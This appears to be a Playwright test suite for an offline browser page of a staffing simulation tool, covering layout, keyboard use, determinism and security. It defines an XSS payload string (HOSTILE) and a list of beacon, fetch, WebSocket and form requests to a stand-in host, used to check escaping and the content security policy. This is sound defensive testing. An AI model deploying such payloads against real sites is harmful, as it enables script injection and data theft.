"""The page in a real browser and in Node, offline: what it shows before Python is there, a what-if by keyboard, and the
same answers.

Slow: Python starts in the browser. The parts are fetched once (npm and pip) and kept in the cache folder of `mashsim
page`."""

from __future__ import annotations

import base64
import gzip
import io
import json
import re
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import quote

import openpyxl
import pytest

from made.browser import CHROMIUM
from made.opened_page import (
    NEEDED,
    PATIENCE,
    WIDTHS,
    Opened,
    browser,
    built,
    fetched,
    fits_every_width,
    opened,
    ready,
    tab_to,
    violations,
)
from made.page_requests import ASKED, DAYS, PEOPLE, QUEUE, SHORT
from mashsim.loading import changed, load_text
from mashsim.page import handle_text
from mashsim.page.building import packages
from mashsim.page.fetching import Fetched

if TYPE_CHECKING:
    from playwright.sync_api import Browser

__all__ = ["browser", "built", "fetched", "ready"]
pytestmark = pytest.mark.slow
HOSTILE = '<img src=x onerror="window.broken=1"><script>window.broken=1</script>'


def test_the_first_chart_is_there_before_python(browser: Browser, built: Path) -> None:
    found = opened(browser, built, "#base=baseline")
    found.page.locator("#parts .wide svg").first.wait_for(state="visible")
    assert found.said("#engine").startswith("The engine is starting")
    assert found.said("#findings").startswith("Share decided in time: ")
    assert found.page.locator("#run").is_disabled()
    above = "document.querySelector('.promise').compareDocumentPosition(document.querySelector('input, select')) & 4"
    assert found.page.evaluate(above), "the promise stands above the first input"
    assert "Nothing leaves this computer" in found.said(".promise")
    for width, most in zip(WIDTHS, (100, 120, 160), strict=True):  # with the sentence about the engine
        found.page.set_viewport_size({"width": width, "height": 768})
        top = found.page.locator("h1:visible").first.bounding_box()
        assert top
        assert top["y"] < most, f"little stands above a view at {width} pixels"
    found.page.context.close()


def test_the_first_screen_has_four_doors_beside_a_chart_and_each_leads_somewhere(browser: Browser, built: Path) -> None:
    found = opened(browser, built)
    page = found.page
    page.set_viewport_size({"width": 1366, "height": 768})
    page.locator("#doors-chart .wide svg").wait_for(state="visible")

    def ends(what: str, end: str = "bottom") -> float:
        place: float = page.evaluate(f"document.querySelector('{what}').getBoundingClientRect().{end}")
        return place

    assert ends("#view-doors h1", "top") < 100
    assert ends(".above") <= 90
    assert max(ends("#door-training"), ends("#doors-chart .wide svg")) < 768
    for door, view in (("what-if", "what-if"), ("watch", "watch"), ("training", "training"), ("enough", "what-if")):
        page.click(f"#door-{door}")
        assert page.locator(f"#view-{view}").is_visible()
        page.go_back()
        page.locator("#view-doors").wait_for(state="visible")
    page.click("#door-enough")
    assert (page.evaluate("document.activeElement.id"), page.input_value("#target")) == ("target", "90")
    assert max(ends("#target"), ends("#from"), ends("#control-pools-contact_officers-posts"), ends("#findings")) < 768
    assert "target=90" in page.evaluate("location.hash")
    for width in WIDTHS:
        page.set_viewport_size({"width": width, "height": 768})
        for view in ("what-if", "doors"):
            page.click(f"#go-{view}")
            assert violations(page) == [], f"{view} at {width} pixels"
            assert page.evaluate("document.documentElement.scrollWidth") <= width
    assert found.complaints == []
    page.context.close()


def test_the_page_says_whether_it_is_enough_as_the_engine_does(ready: Opened) -> None:
    ready.use(SHORT)
    ready.page.fill("#target", "95")
    ready.run()
    request = {"text": SHORT, "name": "own.toml", "seed": 1, "replications": 2}
    target = "share_decided_in_time >= 0.95"
    told = json.loads(handle_text(json.dumps({"do": "sum up", "target": target, **request})))["page"]["findings"]
    assert ready.said("#findings").split("\n") == told
    assert told[0].startswith(("Yes, it is enough.", "No, it is not enough.", "We cannot tell"))
    ready.page.fill("#target", "101")
    assert ready.page.locator("#stale").is_visible()
    ready.page.click("#run")
    assert "The target is a number from 0 to 100." in ready.said("#faults")
    ready.page.fill("#target", "")
    assert ready.page.locator("#stale").is_visible()
    ready.run()
    assert ready.page.locator("#stale").is_hidden()
    assert "enough" not in ready.said("#findings")


def test_the_page_holds_byte_code_of_its_own_python(built: Path) -> None:
    part = re.search(r'data-part="packages\.zip"[^>]*>([^<]+)<', built.read_text(encoding="utf-8"))
    assert part is not None
    with zipfile.ZipFile(io.BytesIO(gzip.decompress(base64.b64decode(part[1])))) as archive:
        names = archive.namelist()
    ours = {name for name in names if name.startswith("mashsim/") and name.endswith(".py")}
    place = r"/([^/]+)\.py$"
    assert {re.sub(place, r"/__pycache__/\1.cpython-314.pyc", name) for name in ours} <= set(names)
    assert "pydantic/main.pyc" in names
    assert "pydantic/main.py" not in names


def test_without_webassembly_it_says_so_and_shows_what_was_worked_out(built: Path, browser: Browser) -> None:
    arguments = ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--js-flags=--jitless"]
    other = browser.browser_type.launch(executable_path=CHROMIUM, args=arguments)
    found = opened(other, built, "#base=baseline")
    said = found.wait("#engine", "The engine is switched off", patience=30)
    assert "WebAssembly" in said
    assert "You can still read" in said
    assert found.page.locator("#parts .wide svg").first.is_visible()
    assert found.page.locator("#run").is_disabled()
    other.close()


def test_a_browser_that_is_too_old_is_told_so(built: Path, browser: Browser) -> None:
    page = browser.new_context(offline=True).new_page()
    page.add_init_script("delete window.DecompressionStream")
    page.goto(built.as_uri())
    assert page.locator("#engine").inner_text().startswith("This browser is too old for this page.")
    page.context.close()


def test_a_what_if_by_keyboard_only(ready: Opened) -> None:
    ready.use(SHORT)
    page = ready.page
    page.evaluate("document.activeElement.blur()")
    tab_to(page, "control-pools-managers-posts")
    page.keyboard.press("Control+A")
    page.keyboard.type("6")
    tab_to(page, "run")
    page.keyboard.press("Enter")
    ready.wait("#progress-text", "All 2 runs are done.")
    assert ready.said("#results-heading") == "With your changes, beside as it is"
    assert page.evaluate("document.activeElement.id") == "run"
    assert "pools.managers.posts=6" in page.evaluate("location.hash")
    assert "Managers 2.22 posts 6 posts" in " ".join(ready.said("#parts").split())
    assert ready.said("#command").startswith(
        "mashsim compare own.toml --set pools.managers.posts=6 --seed 1 --replications 2"
    )
    bands = page.evaluate(
        "Array.from(document.querySelectorAll('#parts .wide svg')).map(svg => svg.querySelector('title').textContent)"
    )
    assert any(band.startswith("At the end ") for band in bands)


def test_people_come_by_keyboard_and_each_step_can_be_undone_and_done_again(ready: Opened) -> None:
    ready.use(SHORT)
    page = ready.page
    page.evaluate("document.activeElement.blur()")
    tab_to(page, "people-add")
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.id") == "person-0-pool"
    page.keyboard.type("Managers")
    tab_to(page, "person-0-posts")
    page.keyboard.press("Control+A")
    page.keyboard.type("2")
    tab_to(page, "person-0-kind")
    page.fill("#person-0-from", "2026-05-04")
    people = "add=managers%2C2%2Cagency%2C2026-05-04%2C"
    assert people in page.evaluate("location.hash")
    assert page.locator("#stale").is_hidden(), "nothing was run of this file yet"
    tab_to(page, "run")
    page.keyboard.press("Enter")
    ready.wait("#progress-text", "All 2 runs are done.")
    assert "Managers – 2 more, agency workers 4 May 2026 the end" in " ".join(ready.said("#parts").split())
    assert "changed.toml" in ready.said("#needs")
    tab_to(page, "undo")
    for wanted in ("2%2Cagency%2C%2C", "1%2Cagency%2C%2C"):
        page.keyboard.press("Enter")
        assert f"add=managers%2C{wanted}" in page.evaluate("location.hash")
        assert ready.said("#progress-text") == "The last change is undone."
    assert page.locator("#stale").is_visible()
    page.keyboard.press("Enter")  # the choice of the team
    page.keyboard.press("Enter")  # and that anybody comes
    assert "add=" not in page.evaluate("location.hash")
    tab_to(page, "redo")
    for _ in range(4):
        page.keyboard.press("Enter")
    assert people in page.evaluate("location.hash")
    assert page.locator("#redo").is_disabled()
    assert page.evaluate("document.activeElement.id") == "undo"
    assert page.locator("#stale").is_hidden()
    page.click("#reset")
    ready.wait("#facts", "Not run yet")
    assert "add=" not in page.evaluate("location.hash")
    page.click("#undo")
    assert people in page.evaluate("location.hash")


def test_the_workbook_opens_and_everything_that_is_folded_is_on_paper(ready: Opened) -> None:
    ready.use(SHORT)
    ready.page.fill("#control-pools-managers-posts", "5")
    ready.run()
    with ready.page.expect_download() as download:
        ready.page.click("#save-workbook")
    assert download.value.suggested_filename == "results.xlsx"
    book = openpyxl.load_workbook(io.BytesIO(Path(download.value.path()).read_bytes()))
    told = ready.said("#findings").split("\n")
    assert [row[0].value for row in book["Answer"].iter_rows()] == told
    folded = "document.querySelectorAll('details.part:not([open])').length"
    ready.page.evaluate("window.addEventListener('beforeprint', () => { window.folded = " + folded + "; })")
    assert ready.page.evaluate(folded) == 6
    assert len(ready.page.pdf()) > 50_000
    assert ready.page.evaluate("window.folded") == 0
    assert ready.page.evaluate(folded) == 6


def test_it_stops_while_it_runs_and_what_is_done_stays(ready: Opened) -> None:
    ready.use(SHORT, runs=99)
    ready.page.click("#run")
    ready.wait("#progress-text", "2 of 99", "3 of 99", "4 of 99")
    ready.page.click("#stop")
    said = ready.wait("#progress-text", "Stopped after ")
    done = int(said.split()[2])
    assert 2 <= done < 99
    assert f"simulated {done} times" in ready.said("#facts")
    assert ready.said("#findings").split("\n")[0] in said
    assert ready.page.locator("#run").is_enabled()
    ready.page.fill("#runs", str(done + 1))
    ready.page.click("#run")  # goes on where it stopped: one more run
    ready.wait("#progress-text", f"All {done + 1} runs are done.")
    assert f"simulated {done + 1} times" in ready.said("#facts")
    alone = json.loads(
        handle_text(
            json.dumps({"do": "sum up", "text": SHORT, "name": "own.toml", "seed": 1, "replications": done + 1})
        )
    )
    assert ready.said("#findings").split("\n") == alone["page"]["findings"]


def test_one_hand_and_three_give_the_same_bytes(ready: Opened, browser: Browser, built: Path) -> None:
    ready.use(SHORT, runs=6)
    ready.run()
    assert len(ready.page.workers) == 1
    text = json.dumps({"do": "sum up", "text": SHORT, "name": "own.toml", "seed": 1, "replications": 6})
    alone = ready.page.evaluate("text => window.mashsim.handle(text)", text)
    context = browser.new_context(offline=True)
    context.add_init_script("Object.defineProperty(navigator, 'hardwareConcurrency', { value: 4 })")
    helped = opened(browser, built, context=context)
    helped.wait("#engine", "The engine is ready.")
    assert len(helped.page.workers) == 1
    helped.use(SHORT, runs=6)
    helped.run()
    assert len(helped.page.workers) == 3
    assert helped.said("#findings") == ready.said("#findings")
    assert helped.page.evaluate("text => window.mashsim.handle(text)", text) == alone == handle_text(text)
    question = {"do": "question", "text": SHORT, "name": "own.toml", "ask": "explain", "settings": {"replications": 6}}
    text, answers = json.dumps({**question, "more": 1000}), []
    for found in (ready, helped):
        found.page.click("#go-questions")
        found.page.fill("#question-runs", "6")
        found.page.click("#question-ask")
        found.wait("#question-progress-text", "Answered from 6 runs.")
        answers.append(found.page.evaluate("text => window.mashsim.handle(text)", text))
        found.page.click("#go-what-if")
    assert answers[0] == answers[1]
    assert json.loads(answers[0])["page"]["findings"] == json.loads(handle_text(text))["page"]["findings"]
    assert helped.complaints == []
    context.close()


def test_what_is_wrong_is_said_beside_the_controls(ready: Opened) -> None:
    ready.use(SHORT)
    ready.page.fill("#control-pools-managers-posts", "-3")
    ready.page.click("#run")
    assert "Managers is -3; it must be from 0 to 200." in ready.said("#faults")
    assert ready.page.evaluate("document.activeElement.id") == "faults"
    ready.page.fill("#control-pools-managers-posts", "4")
    ready.page.fill("#from", "2026-05-04")
    ready.page.fill("#to", "2026-05-01")
    ready.page.click("#people-add")
    ready.page.fill("#person-0-posts", "0")
    ready.page.click("#run")
    assert "The last day on which the changes hold is before the first." in ready.said("#faults")
    assert "Extra people, 1: how many is a number of posts above 0, up to 200." in ready.said("#faults")
    misspelt = "own.toml, line 3: pools.managrs.posts: unknown setting; did you mean pools.managers?"
    files = {
        b'base = "baseline"\n[pools.managrs]\nposts = 3\n': misspelt,
        b"base = [": "own.toml, line 1",
        b"\xff\x00\x01": "own.toml, line 1",
        b"#" * 5_000_001: "The file is larger than 5 MB; a scenario file is at most so large.",
    }
    for content, words in files.items():
        ready.page.set_input_files("#own", {"name": "own.toml", "mimeType": "application/toml", "buffer": content})
        ready.wait("#whose-faults", f"There is a problem\n{words}", patience=10)
    ready.use(
        QUEUE.read_text(encoding="utf-8").replace("2023-12-31", "2023-01-15")
    )  # the page lives on; a queue has none of the parts
    ready.page.fill("#control-pools-server-posts", "2")
    ready.run()
    assert ready.page.locator("#faults").is_hidden()
    assert ready.page.locator("#whose-faults").is_hidden()


def test_no_hostile_text_becomes_markup(ready: Opened, browser: Browser, built: Path) -> None:
    text = SHORT.replace("Two months", "Tw").replace("[run]", f"place = '{HOSTILE}'\nquestion = '{HOSTILE}'\n[run]")
    ready.use(text)
    ready.page.fill("#control-pools-managers-posts", "5")
    ready.run()
    assert HOSTILE in ready.said("#parts")
    assert ready.page.locator("#results img, #results script").count() == 0
    with ready.page.expect_download() as download:
        ready.page.click("#save-report")
    assert HOSTILE not in Path(download.value.path()).read_text(encoding="utf-8")
    assert ready.page.evaluate("window.broken") is None
    people = [
        f"{HOSTILE},2,agency,,",
        f"managers,2,{HOSTILE},,",
        f"managers,{HOSTILE},agency,,",
        f"managers,2,agency,{HOSTILE},",
        HOSTILE,
        "",
    ]
    added = "".join(f"&add={quote(each)}" for each in [*people, *["managers,1,agency,,"] * 500])
    parts = f"{HOSTILE}=3&from={HOSTILE}&to={HOSTILE}&runs={HOSTILE}&pools.managers.policy={HOSTILE}&pools.managers.posts=7{added}"
    other = opened(browser, built, f"#base={HOSTILE}&{parts}")
    other.page.locator("#control-pools-managers-posts").wait_for(state="visible")
    assert other.page.evaluate("[window.broken, document.querySelectorAll('main img').length]") == [None, 0]
    assert other.page.input_value("#control-pools-managers-posts") == "7"
    assert other.page.input_value("#control-pools-managers-policy") == "most_urgent_first"
    assert other.page.locator(".person").count() == 20
    other.page.context.close()


TRIES = [
    ("connect-src", "fetch('https://example.invalid/x').catch(() => 0)"),
    ("connect-src", "navigator.sendBeacon('https://example.invalid/x', 'secret')"),
    ("connect-src", "try { new WebSocket('wss://example.invalid/x') } catch (refusal) { 0 }"),
    (
        "img-src",
        "new Promise(done => { const i = new Image(); i.onerror = () => done(0); i.src = 'https://example.invalid/x.png'; })",
    ),
    (
        "form-action",
        "{ const f = document.createElement('form'); f.action = 'https://example.invalid/'; document.body.append(f); f.submit(); }",
    ),
]


def test_no_request_leaves_the_file_and_a_beacon_is_refused(ready: Opened, browser: Browser, built: Path) -> None:
    assert [address for address in ready.asked if not address.startswith((built.as_uri(), "blob:", "data:"))] == []
    found = opened(browser, built)
    found.page.evaluate(
        "document.addEventListener('securitypolicyviolation', e => window.refused.push(e.effectiveDirective))"
    )
    for directive, script in TRIES:
        found.page.evaluate("window.refused = []")
        found.page.evaluate(script)
        found.page.wait_for_timeout(100)
        assert found.page.evaluate("window.refused") == [directive], script
    found.page.context.close()


def test_no_violation_of_wcag_and_nothing_wider_than_the_screen(ready: Opened) -> None:
    """With results, everything folded open, and a complaint."""
    ready.use(SHORT)
    ready.page.fill("#control-pools-managers-posts", "5")
    ready.run()
    ready.page.fill("#control-pools-social_workers-posts", "-1")
    ready.page.click("#run")
    folded = "document.querySelectorAll('details:not([open])')"
    ready.page.evaluate(f"window.folded = [...{folded}]; window.folded.forEach(each => {{ each.open = true; }})")
    fits_every_width(ready.page)
    ready.page.evaluate("window.folded.forEach(each => { each.open = false; })")  # as the next test expects them


def test_the_address_holds_the_changes_and_the_scenario_can_be_taken_away(
    browser: Browser, built: Path, ready: Opened
) -> None:
    settings = "pools.managers.posts=5.5&pools.managers.policy=due_soonest&opening_backlog.0.contacts=60"
    people = "add=social_workers%2C2%2Cpermanent%2C2026-06-01%2C2026-08-31&add=managers%2C0.5%2Cagency%2C%2C"
    rest = "from=2026-06-01&to=2026-12-31&seed=4&runs=7"
    found = opened(browser, built, f"#base=baseline&{settings}&{people}&{rest}")
    found.page.locator("#control-pools-managers-posts").wait_for(state="visible")
    wanted = {
        "control-pools-managers-posts": "5.5",
        "control-pools-managers-policy": "due_soonest",
        "control-opening_backlog-0-contacts": "60",
        "from": "2026-06-01",
        "to": "2026-12-31",
        "runs": "7",
        "seed": "4",
        "person-0-pool": "social_workers",
        "person-0-posts": "2",
        "person-0-kind": "permanent",
        "person-0-from": "2026-06-01",
        "person-0-to": "2026-08-31",
        "person-1-pool": "managers",
        "person-1-from": "",
    }
    assert {name: found.page.input_value(f"#{name}") for name in wanted} == wanted
    assert all(found.page.locator(f"#{name}").is_visible() for name in wanted), "what is changed is not folded away"
    assert found.page.evaluate("location.hash") == f"#base=baseline&{settings}&{people}&{rest}"
    found.page.fill("#control-demand-rate", "110")
    moved = settings.replace("&pools.managers.policy", "&demand.rate=110&pools.managers.policy")
    assert found.page.evaluate("location.hash") == f"#base=baseline&{moved}&{people}&{rest}"
    found.page.context.close()
    ready.use(SHORT)
    ready.page.fill("#control-demand-rate", "110")
    ready.run()
    with ready.page.expect_download() as download:
        ready.page.click("#save-scenario")
    taken = load_text(Path(download.value.path()).read_text(encoding="utf-8"), "taken")
    assert taken.hash == changed(load_text(SHORT, "short"), {"demand.rate": "11330 per year"}).hash


def test_the_same_scenario_and_seed_give_the_same_bytes_in_python_in_node_and_in_the_browser(
    ready: Opened, fetched: Fetched, tmp_path: Path
) -> None:
    """A what-if on the ordinary front door, and a season of the whole one, with every part there is."""
    whole = {"scenario": "story/summer-peak", "changes": {"pools.managers.posts": 6}, "from": "2024-05-01", "seed": 11}
    requests = [
        {"do": "scenarios"},
        {"do": "start", "scenario": "baselin"},
        {"do": "start", **ASKED},
        {"do": "replicate", "number": 1, **ASKED},
        {"do": "sum up", "replications": 3, **ASKED},
        {"do": "files", "replications": 2, **ASKED},
        {"do": "summary", "replications": 3, **ASKED},
        {"do": "sum up", "replications": 2, **ASKED, "dated": [PEOPLE]},
        {"do": "workbook", "replications": 2, **ASKED},
        {"do": "start", **whole},
        {"do": "replicate", "number": 0, **whole},
    ]
    texts = [json.dumps(request) for request in requests]
    here = [handle_text(text) for text in texts]
    there = [ready.page.evaluate("text => window.mashsim.handle(text)", text) for text in texts]
    assert there == here
    node = shutil.which("node")
    if node is None:
        if NEEDED:
            pytest.fail("node is not on this machine")
        pytest.skip("node is not on this machine; the browser gave the same bytes")
    (tmp_path / "packages.zip").write_bytes(packages(fetched.wheels))
    (tmp_path / "requests.json").write_text(json.dumps(requests), encoding="utf-8")
    command = [
        node,
        str(Path(__file__).with_name("page_in_node.mjs")),
        str(fetched.pyodide),
        "packages.zip",
        "requests.json",
    ]
    done = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, encoding="utf-8", timeout=PATIENCE)
    assert done.returncode == 0, done.stderr[:2000]
    assert json.loads(done.stdout) == here


def test_a_council_is_made_and_run_at_once(ready: Opened) -> None:
    page = ready.page
    assert page.locator("#councils option").count() == 153
    page.fill("#runs", "2")
    page.evaluate("document.getElementById('whose').open = true")
    page.fill("#council", "no such place")
    page.click("#open-council")
    ready.wait("#whose-faults", "There is a problem")
    assert "no English council is called 'no such place'" in ready.said("#whose-faults")
    page.fill("#council", "rutland")
    page.press("#council", "Enter")
    ready.wait("#results-heading", "As it is: Rutland's front door, from public tables")
    ready.wait("#progress-text", "All 2 runs are done.")
    assert "Open Government Licence" in ready.said("#council-said")
    assert page.locator("#parts").get_by_text("Beside other councils").count() == 1


def test_questions_are_asked_by_keyboard_and_answered_as_the_engine_does(ready: Opened) -> None:
    ready.use(DAYS)
    page = ready.page
    page.click("#go-questions")
    assert "Sixty wait" in ready.said("#question-door")
    page.fill("#question-runs", "3")
    page.evaluate("document.activeElement.blur()")
    tab_to(page, "question-ask")
    page.keyboard.press("Enter")
    ready.wait("#question-progress-text", "Answered from 3 runs.")
    asked = {"do": "question", "text": DAYS, "name": "own.toml", "seed": 1, "more": 1000}
    told = json.loads(handle_text(json.dumps({**asked, "ask": "explain", "settings": {"replications": 3}})))
    assert ready.said("#question-findings").split("\n") == told["page"]["findings"]
    assert ready.said("#question-command") == "mashsim explain own.toml --replications 3 --seed 1"
    page.check("#question-recover")
    page.fill("#question-by", "2023-01-02")
    page.click("#question-ask")
    assert "must be after the first day" in ready.said("#question-faults")
    ready.use(SHORT)
    page.click("#go-questions")
    page.check("#question-seek")
    page.click("#question-target-add")
    page.select_option("#question-target-0-measure", "clocks.decision.by_rating.red.share_in_time")
    page.fill("#question-target-0-percent", "5")
    page.click("#question-pattern-add")
    page.fill("#question-pattern-0-shifts", "midday")
    page.click("#question-ask")
    ready.wait("#question-faults", "There is a problem")
    assert "'midday' is neither a calendar" in ready.said("#question-faults")
    page.fill("#question-pattern-0-shifts", "mon-fri 08:00-17:00")
    page.click("#question-ask")
    ready.wait("#question-results-heading", "So far")
    page.click("#question-stop")
    said = ready.wait("#question-progress-text", "Stopped. ")
    assert "not yet sure" in ready.said("#question-findings")
    assert ready.said("#question-findings").replace("\n", " ") in said
    link = page.evaluate("location.hash")
    assert "ask=seek" in link
    assert "ask-also=clocks.decision.by_rating.red.share_in_time%2C5" in link
    assert "ask-pattern=contact_officers%7Ctwo+shifts%7Cmon-fri" in link
    for width in WIDTHS:
        page.set_viewport_size({"width": width, "height": 768})
        page.check("#question-seek" if width == WIDTHS[-1] else "#question-cover")
        assert violations(page) == [], f"at {width} pixels"
        assert page.evaluate("document.documentElement.scrollWidth") <= width
    page.set_viewport_size({"width": WIDTHS[0], "height": 900})
    page.click("#go-what-if")


def test_what_ifs_are_saved_compared_and_remembered_and_a_link_asks_for_its_file(
    ready: Opened, browser: Browser, built: Path
) -> None:
    ready.use(DAYS)
    page = ready.page
    page.click("#go-what-if")
    page.click("#save-this")
    assert "Change something first" in ready.said("#faults")
    for posts in ("3", "4"):
        page.fill("#control-pools-server-posts", posts)
        page.press("#control-pools-server-posts", "Tab")
        page.click("#save-this")
    link = page.evaluate("location.hash")
    page.click("#go-compare")
    names = [page.input_value(f"#saved-{place}-name") for place in (0, 1)]
    assert names == ["Server 3 posts", "Server 4 posts"]
    page.click("[aria-label='Up: Server 4 posts']")
    page.fill("#saved-0-name", "Two more")
    page.press("#saved-0-name", "Tab")
    page.fill("#compare-runs", "3")
    page.click("#compare-go")
    ready.wait("#compare-progress-text", "Each was run 3 times.")
    door = {"text": DAYS, "name": "own.toml", "seed": 1}
    what_ifs = [
        {"name": name, "changes": {"pools.server.posts": n}} for name, n in (("Two more", 4), ("Server 3 posts", 3))
    ]
    request = {"do": "side by side", **door, "set": what_ifs, "replications": 3, "more": 100}
    assert (
        ready.said("#compare-findings").split("\n") == json.loads(handle_text(json.dumps(request)))["page"]["findings"]
    )
    fits_every_width(page, 768)
    with page.expect_download() as download:
        page.click("#compare-file")
    page.click("[aria-label='Delete: Server 3 posts']")
    assert page.locator("#compare-saved li").count() == 1
    page.click("#compare-undo")
    assert page.locator("#compare-saved li").count() == 2
    page.set_input_files("#compare-open", download.value.path())
    assert page.input_value("#saved-2-name") == "Two more (2)"
    page.click("[aria-label='Open: Two more (2)']")
    assert page.input_value("#control-pools-server-posts") == "4"
    page.click("#reset")
    other = opened(browser, built, link)
    said = other.wait("#whose-faults", "There is a problem")
    assert "This link belongs to the file own.toml." in said
    other.wait("#engine", "The engine is ready.")
    wrong = DAYS.replace("contacts = 60", "contacts = 61").encode()
    other.page.set_input_files("#own", {"name": "own.toml", "mimeType": "application/toml", "buffer": wrong})
    other.wait("#results-heading", "As it is: Sixty wait")
    assert "This is not own.toml as it was" in other.said("#whose-faults")
    other.use(DAYS)
    assert other.page.input_value("#control-pools-server-posts") == "4"
    assert other.complaints == []
    with other.page.expect_event("dialog") as leaving:  # what the link says is saved nowhere here
        other.page.close(run_before_unload=True)
    assert leaving.value.type == "beforeunload"
    leaving.value.accept()
    other.page.context.close()


def test_any_setting_is_found_changed_and_used_in_the_page(ready: Opened) -> None:
    ready.use(DAYS)
    page = ready.page
    page.click("#go-settings")
    ready.wait("#form-about", *"123456789")
    assert page.locator("#form-pools-server-posts").is_visible(), "what differs from the base stands first"
    page.fill("#form-search", "sickness")
    assert int(ready.said("#form-found").split()[0]) > 0
    page.fill("#form-search", "server posts")
    page.fill("#form-pools-server-posts", "many")
    page.press("#form-pools-server-posts", "Tab")
    page.click("#form-use")
    ready.wait("#form-faults", "There is a problem")
    assert "must be a number" in ready.said("#form-faults")
    page.fill("#form-pools-server-posts", "4")
    page.press("#form-pools-server-posts", "Tab")
    page.click("#form-use")
    ready.wait("#form-said", "1 setting is in the page now")
    assert "4 is above the credible range 2 to 3" in ready.said("#form-said")
    page.fill("#form-search", "")
    page.click("#form-add summary")
    page.fill("#form-name", "helpers")
    page.click("#form-new")
    ready.wait("#form-said", "New team: helpers.")
    assert page.evaluate("document.activeElement.textContent").startswith("New team: helpers")
    page.fill("#form-pools-helpers-posts", "1.5")
    page.press("#form-pools-helpers-posts", "Tab")
    fits_every_width(page, 768)
    page.click("#form-use")
    ready.wait("#form-said", "2 settings are in the page now")
    page.click("#go-what-if")
    assert page.input_value("#control-pools-server-posts") == "4"
    assert page.input_value("#control-pools-helpers-posts") == "1.5"
